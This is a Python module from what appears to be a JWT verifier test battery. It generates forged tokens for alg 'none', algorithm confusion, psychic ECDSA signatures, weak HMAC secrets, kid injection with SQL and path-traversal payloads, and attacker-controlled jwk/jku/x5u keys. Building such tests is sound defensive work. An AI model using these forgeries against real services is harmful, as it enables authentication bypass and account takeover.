"""Attacks on the signature: `alg: none`, algorithm confusion, psychic ECDSA, weak secrets, attacker keys."""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Iterator
from typing import Any

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature

from .encoding import b64, json_bytes, unb64
from .keys import (
    ATTACKER_SECRET,
    EC_ALGS,
    HMAC_ALGS,
    PublicKey,
    attacker_algs,
    attacker_certificate,
    attacker_key,
    int_bytes,
    public_half,
    public_jwk,
    sign_token,
)
from .token import Battery, Forgery

__all__ = [
    "alg_none",
    "algorithm_confusion",
    "embedded_keys",
    "kid_injection",
    "psychic_signature",
    "signature_tampering",
    "weak_hmac_secret",
]


def _none_casings() -> Iterator[str]:
    for mask in range(16):
        yield "".join(c.upper() if mask >> i & 1 else c for i, c in enumerate("none"))


def alg_none(b: Battery) -> Iterator[Forgery]:
    """RFC 7518 section 3.6's unsecured JWS, which a verifier of signed tokens must never accept."""
    t = b.original
    for casing in _none_casings():
        head = b64(json_bytes(t.header_with(alg=casing)))
        tails = {
            "empty-sig": f".{t.payload_b64}.",
            "no-sig": f".{t.payload_b64}",
            "orig-sig": f".{t.payload_b64}.{t.signature_b64}",
        }
        for detail, tail in tails.items():
            yield Forgery(f"alg-none-{casing}-{detail}", "alg-none", "RFC 8725 section 2.1; CVE-2015-9235", head + tail)
    # `alg: none` with admin claims, the forgery an attacker actually sends.
    if t.payload is not None:
        admin = json_bytes({**t.payload, "sub": "admin", "role": "admin"})
        yield Forgery(
            "alg-none-admin-claims",
            "alg-none",
            "RFC 8725 section 2.1",
            f"{b64(json_bytes(t.header_with(alg='none')))}.{b64(admin)}.",
        )


def _confusion_secrets(key: PublicKey, published_jwk: bytes | None) -> Iterator[tuple[str, bytes]]:
    """Every byte form of a public key a careless verifier might use as an HMAC secret."""
    enc, fmt = serialization.Encoding, serialization.PublicFormat
    pem = key.public_bytes(enc.PEM, fmt.SubjectPublicKeyInfo)
    yield "pem", pem
    yield "pem-stripped", pem.strip()
    yield "der", key.public_bytes(enc.DER, fmt.SubjectPublicKeyInfo)
    jwk = public_jwk(key)
    yield "jwk-json", json_bytes(jwk)
    yield "jwk-json-spaced", json.dumps(jwk).encode()
    if published_jwk is not None:
        yield "jwk-json-published", published_jwk
    if isinstance(key, rsa.RSAPublicKey):
        yield "pkcs1-pem", key.public_bytes(enc.PEM, fmt.PKCS1)
        yield "modulus", int_bytes(key.public_numbers().n)
    elif isinstance(key, ec.EllipticCurvePublicKey):
        yield "x962-point", key.public_bytes(enc.X962, fmt.UncompressedPoint)
    else:
        yield "raw", key.public_bytes(enc.Raw, fmt.Raw)
    try:
        openssh = key.public_bytes(enc.OpenSSH, fmt.OpenSSH)
    except ValueError:
        return  # curves and Ed448 keys OpenSSH has no format for
    yield "openssh", openssh


def algorithm_confusion(b: Battery) -> Iterator[Forgery]:
    """The public key's bytes as an HMAC secret: CVE-2022-29217 (PyJWT), CVE-2024-33663 (python-jose)."""
    reference = "RFC 8725 section 3.1; CVE-2022-29217; CVE-2024-33663"
    t = b.original
    for index, (kid, key, published) in enumerate(b.public_keys):
        header = t.header_with(kid=kid) if kid is not None else dict(t.header)
        label = f"key{index}"
        seen: set[bytes] = set()
        for form, secret in _confusion_secrets(key, published):
            if secret in seen:
                continue
            seen.add(secret)
            for alg in HMAC_ALGS:
                token = sign_token({**header, "alg": alg}, t.payload_bytes, alg, secret)
                yield Forgery(f"algorithm-confusion-{label}-{form}-{alg}", "algorithm-confusion", reference, token)
    if b.jwks is not None:
        document = json.dumps(dict(b.jwks)).encode()
        for alg in HMAC_ALGS:
            token = sign_token({**t.header, "alg": alg}, t.payload_bytes, alg, document)
            yield Forgery(f"algorithm-confusion-jwks-json-{alg}", "algorithm-confusion", reference, token)


def psychic_signature(b: Battery) -> Iterator[Forgery]:
    """ECDSA with r = s = 0, which Java 15-18 accepted for any message (CVE-2022-21449)."""
    t = b.original
    for alg, (_, size) in EC_ALGS.items():
        header = b64(json_bytes(t.header_with(alg=alg)))
        zeros = {"raw-zeros": bytes(2 * size), "der-zeros": encode_dss_signature(0, 0)}
        for detail, signature in zeros.items():
            yield Forgery(
                f"psychic-signature-{alg}-{detail}",
                "psychic-signature",
                "CVE-2022-21449",
                f"{header}.{t.payload_b64}.{b64(signature)}",
            )


def signature_tampering(b: Battery) -> Iterator[Forgery]:
    """The right header and payload with a signature that is not theirs (RFC 7515 section 5.2)."""
    reference = "RFC 7515 section 5.2"
    t = b.original
    signature = unb64(t.signature_b64)
    flipped_first = bytes([signature[0] ^ 0x01]) + signature[1:] if signature else b"\x01"
    flipped_last = signature[:-1] + bytes([signature[-1] ^ 0x80]) if signature else b"\x80"
    variants: dict[str, str] = {
        "stripped": t.signing_input,
        "empty": t.signing_input + ".",
        "truncated-1": b64(signature[:-1]),
        "truncated-half": b64(signature[: len(signature) // 2]),
        "extended": b64(signature + b"\x00"),
        "bit-flip-first": b64(flipped_first),
        "bit-flip-last": b64(flipped_last),
        "zeros": b64(bytes(len(signature))),
        "ones": b64(b"\xff" * len(signature)),
        "doubled": b64(signature + signature),
    }
    # The signature of another token with the same algorithm: the attacker's own key over the attacker's claims.
    attacker = sign_token(t.header, json_bytes({"sub": "attacker"}), t.alg, attacker_key(t.alg))
    variants["from-attacker-token"] = attacker.rsplit(".", 1)[1]
    # With the real key, a genuine signature over other claims: it must not verify these.
    if b.signing_key is not None:
        other = sign_token(t.header, json_bytes({**b.claims, "sub": "someone-else"}), t.alg, b.signing_key)
        variants["from-other-genuine-token"] = other.rsplit(".", 1)[1]
    if t.alg in EC_ALGS and len(signature) == 2 * EC_ALGS[t.alg][1]:
        size = EC_ALGS[t.alg][1]
        r, s = signature[:size], signature[size:]
        # RFC 7518 section 3.4 fixes r || s at the curve's width: DER, or a wider or swapped pair, is invalid.
        variants["ecdsa-der"] = b64(encode_dss_signature(int.from_bytes(r, "big"), int.from_bytes(s, "big")))
        variants["ecdsa-widened"] = b64(b"\x00" + r + b"\x00" + s)
        variants["ecdsa-swapped"] = b64(s + r)
    for detail, value in variants.items():
        token = value if detail in ("stripped", "empty") else f"{t.signing_input}.{value}"
        yield Forgery(f"signature-{detail}", "signature-tampering", reference, token)


# (name, secret): the defaults of tutorials and frameworks, which cracking tools try first
_WEAK_SECRETS = (
    ("empty", ""),
    ("secret", "secret"),
    ("password", "password"),
    ("changeme", "changeme"),
    ("jwt-io-default", "your-256-bit-secret"),
    ("jwt", "jwt"),
    ("key", "key"),
    ("test", "test"),
)


def weak_hmac_secret(b: Battery) -> Iterator[Forgery]:
    """HMAC with a guessable secret, the first thing a cracking tool tries (RFC 8725 section 3.5)."""
    t = b.original
    alg = t.alg if t.alg in HMAC_ALGS else "HS256"
    secrets = list(_WEAK_SECRETS)
    if isinstance(t.header.get("kid"), str):
        secrets.append(("kid", t.header["kid"]))
    for name, secret in secrets:
        token = sign_token({**t.header, "alg": alg}, t.payload_bytes, alg, secret.encode())
        yield Forgery(f"weak-hmac-secret-{name}-{alg}", "weak-hmac-secret", "RFC 8725 section 3.5", token)


# (name, kid, the HMAC secret that kid resolves to on a vulnerable server, or None)
_KID_INJECTIONS: tuple[tuple[str, object, bytes | None], ...] = (
    ("path-traversal", "../../../../../../../dev/null", b""),
    ("absolute-path", "/dev/null", b""),
    ("sql", "' OR '1'='1", None),
    ("sql-union", "x' UNION SELECT 'attacker-secret' -- ", b"attacker-secret"),
    ("nosql", {"$ne": ""}, None),
    ("nul-byte", "key\x00.pem", None),
    ("long", "A" * 10240, None),
    ("empty", "", None),
    ("int", 0, None),
    ("null", None, None),
    ("bool", True, None),
    ("list", ["key"], None),
    ("object", {"kid": "key"}, None),
)


def kid_injection(b: Battery) -> Iterator[Forgery]:
    """A `kid` aimed at the key lookup: files, SQL, huge or non-string values (RFC 8725 section 3.10)."""
    reference = "RFC 8725 section 3.10"
    t = b.original
    for detail, kid, secret in _KID_INJECTIONS:
        header = t.header_with(kid=kid)
        if isinstance(kid, str):
            yield b.kept(f"kid-{detail}", "kid-injection", reference, header, t.payload_bytes)
        else:  # RFC 7515 section 4.1.4: a kid is a string, so a genuine signature does not save these
            yield from b.both(f"kid-{detail}", "kid-injection", reference, header, t.payload_bytes)
        if secret is not None:
            token = sign_token({**header, "alg": "HS256"}, t.payload_bytes, "HS256", secret)
            yield Forgery(f"kid-{detail}-hs256-signed", "kid-injection", reference, token)


def embedded_keys(b: Battery) -> Iterator[Forgery]:
    """Tokens that bring their own key (`jwk`, `x5c`) or say where to fetch it (`jku`, `x5u`)."""
    t = b.original
    url = b.attacker_url
    cert_url = url.rsplit("/", 1)[0] + "/attacker.pem"
    for alg in attacker_algs(t.alg):
        key = attacker_key(alg)
        jwk = {**public_jwk(public_half(key)), "kid": "attacker", "alg": alg}
        claims = t.payload_bytes
        header = {k: v for k, v in t.header.items() if k != "kid"} | {"alg": alg}
        variants: dict[str, tuple[str, str, dict[str, Any]]] = {
            "jwk": ("embedded-jwk", "CVE-2018-0114", {**header, "jwk": jwk}),
            "jwk-original-kid": ("embedded-jwk", "CVE-2018-0114", {**t.header, "alg": alg, "jwk": jwk}),
            "jku": ("jku-injection", "RFC 8725 section 3.10", {**header, "kid": "attacker", "jku": url}),
            "jku-original-kid": ("jku-injection", "RFC 8725 section 3.10", {**t.header, "alg": alg, "jku": url}),
            "x5u": ("x5u-injection", "RFC 8725 section 3.10", {**header, "x5u": cert_url}),
        }
        if alg not in HMAC_ALGS:
            der = attacker_certificate(alg)
            x5c = [base64.b64encode(der).decode()]
            thumbprint = b64(hashlib.sha256(der).digest())
            variants["x5c"] = ("embedded-x5c", "RFC 7515 section 4.1.6", {**header, "x5c": x5c})
            variants["x5c-x5t"] = (
                "embedded-x5c",
                "RFC 7515 section 4.1.6",
                {**header, "x5c": x5c, "x5t#S256": thumbprint},
            )
        for detail, (attack, reference, forged_header) in variants.items():
            yield Forgery(f"{detail}-{alg}", attack, reference, sign_token(forged_header, claims, alg, key))
    if t.alg not in HMAC_ALGS:  # a symmetric key in the header signs anything
        jwk = public_jwk(ATTACKER_SECRET)
        token = sign_token({**t.header, "alg": "HS256", "jwk": jwk}, t.payload_bytes, "HS256", ATTACKER_SECRET)
        yield Forgery("jwk-oct-HS256", "embedded-jwk", "CVE-2018-0114", token)
